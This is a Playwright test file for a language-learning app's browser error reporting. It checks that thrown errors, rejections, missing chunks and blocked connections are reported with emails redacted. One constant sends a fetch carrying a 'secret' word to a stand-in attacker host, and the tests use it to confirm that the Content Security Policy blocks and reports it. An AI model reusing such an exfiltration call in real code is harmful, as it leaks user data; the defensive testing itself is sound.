import type { Page, Request } from '@playwright/test';
import { expect, test } from '../support/fixture.ts';

const isReport = (request: Request) => request.url().endsWith('/api/v2/browser/errors');

/** Waits for the page's next report; returns its body and the status of the response. */
async function waitForReport(page: Page) {
  const response = await page.waitForResponse((candidate) => isReport(candidate.request()));
  const body: unknown = response.request().postDataJSON();
  return { body, status: response.status() };
}

/** Adds code to a script of the app, so that errors in this code count as the app's own. */
const addCode = (page: Page, script: RegExp, code: string) =>
  page.route(script, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${await response.text()}\n${code}` });
  });

const CONNECT_ELSEWHERE = "fetch('https://attacker.test/diary?word=secret').catch(() => undefined)";

/** Waits until the browser has loaded the script that reports errors and the script that it imports. */
const waitForReportScript = (page: Page) =>
  page.waitForFunction(() => {
    const names = performance.getEntriesByType('resource').map(({ name }) => name);
    return [/\/report-errors-[\w-]+\.js$/u, /\/browser-errors-[\w-]+\.js$/u].every((script) =>
      names.some((name) => script.test(name)),
    );
  });

/** A headless browser never hides a page. */
const LEAVE_TAB = `
  Object.defineProperty(document, 'visibilityState', { value: 'hidden' });
  document.dispatchEvent(new Event('visibilitychange'));
`;

test('reports an error that occurs before the app has started, and the app works', async ({
  learner,
  page,
  expectConsole,
}) => {
  expectConsole(/my secret diary/u);
  await addCode(
    page,
    /\/assets\/react-/u,
    `setTimeout(() => { throw new TypeError('Cannot read "my secret diary" of ann@parley.test'); });`,
  );
  const report = waitForReport(page);

  await learner.open();

  expect(await report).toEqual({
    body: {
      errors: [
        {
          kind: 'error',
          message: 'TypeError: Cannot read …',
          stack: [expect.stringMatching(/^react-[\w-]+\.js:\d+:\d+$/u)],
          page: '/',
          count: 1,
        },
      ],
    },
    status: 200,
  });
  await learner.start();
  await learner.say('I get up early.');
});

test('reports an unhandled rejection, and the page works', async ({ page, visitor, expectConsole }) => {
  expectConsole(/ann@parley\.test/u);
  const code = "Promise.reject(new RangeError('The account ann@parley.test has no words'));";
  await addCode(page, /\/assets\/login-page-/u, code);
  const report = waitForReport(page);

  await page.goto('/login');

  expect(await report).toEqual({
    body: {
      errors: [
        {
          kind: 'unhandledrejection',
          message: 'RangeError: The account … has no words',
          stack: [expect.stringMatching(/^login-page-[\w-]+\.js:\d+:\d+$/u)],
          page: '/login',
          count: 1,
        },
      ],
    },
    status: 200,
  });
  await visitor.form.email.fill('ben@parley.test');
});

test('reports a blocked connection by its origin, and the page works', async ({
  learner,
  page,
  expectConsole,
}) => {
  expectConsole(/Content Security Policy|attacker\.test/u);
  await learner.open();
  const report = waitForReport(page);

  await page.evaluate(CONNECT_ELSEWHERE);

  expect(await report).toEqual({
    body: {
      errors: [
        { kind: 'csp', directive: 'connect-src', blocked: 'https://attacker.test', page: '/', count: 1 },
      ],
    },
    status: 200,
  });
  await learner.start();
});

test('reports a chunk that a deploy has deleted, and the rest of the page works', async ({
  learner,
  page,
  expectConsole,
}) => {
  expectConsole(/status of 404|Failed to fetch dynamically imported module|MIME type/u);
  await page.route(/\/assets\/offer-page-/u, (route) => route.fulfill({ status: 404 }));
  await learner.open();
  const report = waitForReport(page);

  await page.getByRole('link', { name: 'Public Offer' }).click();

  expect(await report).toEqual({
    body: {
      errors: [
        {
          kind: 'chunk',
          message: expect.stringMatching(
            /^TypeError: Failed to fetch dynamically imported module: assets\/offer-page-[\w-]+\.js$/u,
          ),
          stack: [],
          page: '/offer',
          count: 1,
        },
      ],
    },
    status: 200,
  });
  await page.getByRole('banner').getByRole('link', { name: 'Parley' }).click();
  await learner.start();
});

test('reports that the app itself is missing', async ({ page, expectConsole }) => {
  expectConsole(/status of 404|Failed to fetch dynamically imported module|MIME type/u);
  await page.route(/\/assets\/(?:app|index)-[\w-]+\.js$/u, (route) => route.fulfill({ status: 404 }));
  const report = waitForReport(page);

  await page.goto('/');

  await expect(page.getByRole('alert')).toContainText("Parley couldn't load");
  expect(await report).toMatchObject({
    body: { errors: [{ kind: 'chunk', message: expect.stringMatching(/: assets\/index-[\w-]+\.js$/u) }] },
    status: 200,
  });
});

test('reports an error in a component', async ({ learner, page, expectConsole }) => {
  expectConsole(/cannot scroll/u);
  await learner.open();
  await page.evaluate("window.scrollTo = () => { throw new Error('The page cannot scroll') }");
  const report = waitForReport(page);

  await page.getByRole('link', { name: 'Public Offer' }).click();

  await expect(page.getByRole('alert')).toContainText('Something went wrong on this page');
  expect(await report).toMatchObject({
    body: {
      errors: [
        {
          kind: 'error',
          message: 'Error: The page cannot scroll',
          stack: expect.arrayContaining([expect.stringMatching(/^app-/u)]),
        },
      ],
    },
    status: 200,
  });
});

test('sends a report when the connection returns, and repeated errors when the learner leaves the tab', async ({
  context,
  learner,
  page,
  expectConsole,
}) => {
  expectConsole(
    /Content Security Policy|attacker\.test|ERR_INTERNET_DISCONNECTED|Could not reach Cloud Firestore/u,
  );
  const requests: Request[] = [];
  page.on('request', (request) => isReport(request) && requests.push(request));
  await learner.open();
  await waitForReportScript(page);
  await context.setOffline(true);
  await page.evaluate(CONNECT_ELSEWHERE);
  const report = waitForReport(page);
  expect(requests).toEqual([]);

  await context.setOffline(false);
  expect(await report).toMatchObject({ body: { errors: [{ kind: 'csp', count: 1 }] }, status: 200 });

  for (let repetition = 0; repetition < 3; repetition += 1) await page.evaluate(CONNECT_ELSEWHERE);
  const last = waitForReport(page);
  await page.evaluate(LEAVE_TAB);
  expect(await last).toMatchObject({ body: { errors: [{ kind: 'csp', count: 3 }] }, status: 200 });
});
